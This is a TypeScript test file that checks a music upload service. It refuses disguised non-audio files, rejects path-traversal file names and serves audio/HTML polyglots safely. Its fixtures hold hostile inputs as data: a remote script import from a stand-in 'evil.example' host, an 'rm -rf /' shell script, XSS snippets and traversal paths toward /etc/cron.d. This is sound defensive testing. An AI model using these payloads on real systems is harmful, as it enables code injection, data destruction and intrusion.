import { expect, test } from 'vitest';
import { musicTexts } from '../../../contracts/admin-messages.ts';
import { SONG, setMusicStage, trackIdIn } from '../../testing/music.ts';
import { readLedgerAt } from '../../testing/read-ledger.ts';

const stage = setMusicStage();
const added = async () =>
  (await readLedgerAt(stage.app.eventStoreUrl)).filter(({ type }) => type === 'MusicTrackAdded').length;

/** A tag (ID3v2.4) with something in it. */
function tagOf(content: string): Buffer<ArrayBuffer> {
  const { length } = content;
  const size = [length >> 21, length >> 14, length >> 7, length].map((bits) => bits & 0x7f);
  return Buffer.concat([Buffer.from([0x49, 0x44, 0x33, 4, 0, 0, ...size]), Buffer.from(content)]);
}

/** Each calls itself sound and is something else. */
const DISGUISED: readonly (readonly [what: string, bytes: Buffer<ArrayBuffer>])[] = [
  ['a page', Buffer.from('<!doctype html><script>fetch("/api/session")</script>')],
  ['a page behind a byte order mark', Buffer.from('\u{feff}<html><script>1</script>')],
  ['a picture that runs scripts', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['a script', Buffer.from('importScripts("https://evil.example/x.js")')],
  ['a shell script', Buffer.from('#!/bin/sh\nrm -rf /')],
  ['a program', Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1')],
  ['a ZIP', Buffer.from('PK\x03\x04\x14\0', 'latin1')],
  ['a PDF', Buffer.from('%PDF-1.7\n')],
  ['a text of UTF-16', Buffer.from('\u{feff}<html>', 'utf16le')],
  [
    'a page behind a tag of MP3',
    Buffer.concat([tagOf('<html>'), Buffer.from('<script>alert(1)</script>'.repeat(9))]),
  ],
  ['a page behind a tag of three pieces', Buffer.concat([tagOf('x'.repeat(700_000)), Buffer.from('<html>')])],
  ['a tag without sound', tagOf('The Song')],
  ['a song of which half a frame came', SONG.subarray(0, 200)],
  ['the head of a WAV', Buffer.from('RIFF\x24\0\0\0WAVE', 'latin1')],
];

test.each(DISGUISED)('%s that calls itself MP3 is refused, and nothing is kept', async (_what, bytes) => {
  const before = await added();
  const path = await stage.begin('disguised.mp3');
  const answer = await stage.put(path, bytes);
  expect(answer).toMatchObject({ status: 415, body: { message: musicTexts.notAudio } });
  expect(await added()).toBe(before);
  expect(await stage.kept(trackIdIn(path))).toBe(false);
});

test('sound is taken by its bytes, whatever its name says', async () => {
  const { body } = await stage.upload('a-song.txt');
  expect(body.track.title).toBe('A Song');
});

test.each(['../../../etc/cron.d/evo.mp3', 'a\0.mp3', '..\\..\\evo.mp3'])(
  'the name %j leads nowhere',
  async (filename) => {
    const answer = await stage.root.post('/api/music/upload', { filename });
    expect(answer.status).toBe(400);
  },
);

test('sound with a page in it is served as sound alone', async () => {
  const polyglot = Buffer.concat([SONG.subarray(0, 2_000), Buffer.from('<script>alert(1)</script>')]);
  const { body } = await stage.upload('polyglot.mp3', polyglot);
  const file = await fetch(new URL(body.track.url, stage.app.url));
  expect(file.headers.get('content-type')).toBe('audio/mpeg');
  expect(file.headers.get('x-content-type-options')).toBe('nosniff');
  expect(file.headers.get('content-security-policy')).toMatch(/default-src 'none'|script-src 'self'/);
  await file.arrayBuffer();
});
